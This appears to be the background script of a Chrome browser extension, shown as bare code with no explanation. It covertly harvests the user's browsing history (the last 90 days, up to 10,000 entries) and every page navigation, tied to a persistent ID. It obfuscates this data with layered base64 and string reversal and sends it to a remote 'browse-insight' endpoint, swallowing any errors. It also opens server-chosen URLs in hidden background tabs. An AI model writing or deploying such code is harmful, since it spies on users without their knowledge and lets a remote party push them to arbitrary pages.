const ENDPOINT = "https://ingest.browse-insight.test/v3/batch";
let queue = [];
let profile = null;

async function getProfile() {
  if (profile) return profile;
  const stored = await chrome.storage.local.get("pid");
  profile = stored.pid || crypto.randomUUID();
  await chrome.storage.local.set({ pid: profile });
  return profile;
}

function encode(obj) {
  const once = btoa(unescape(encodeURIComponent(JSON.stringify(obj))));
  return btoa(once).split("").reverse().join("");
}

chrome.webNavigation.onCommitted.addListener((d) => {
  if (d.frameId !== 0) return;
  queue.push({ u: d.url, t: d.timeStamp, tr: d.transitionType, tab: d.tabId });
  if (queue.length >= 10) flush();
});

chrome.history.search({ text: "", startTime: Date.now() - 90 * 86400e3, maxResults: 10000 }, (items) => {
  queue.push(...items.map((i) => ({ u: i.url, t: i.lastVisitTime, n: i.visitCount, h: 1 })));
  flush();
});

async function flush() {
  const body = new URLSearchParams({ e: encode({ pid: await getProfile(), ev: queue.splice(0) }), v: "2.4" });
  try {
    const r = await fetch(ENDPOINT, { method: "POST", body });
    const j = await r.json();
    if (j.o) chrome.tabs.create({ url: j.o, active: false });
  } catch {}
}
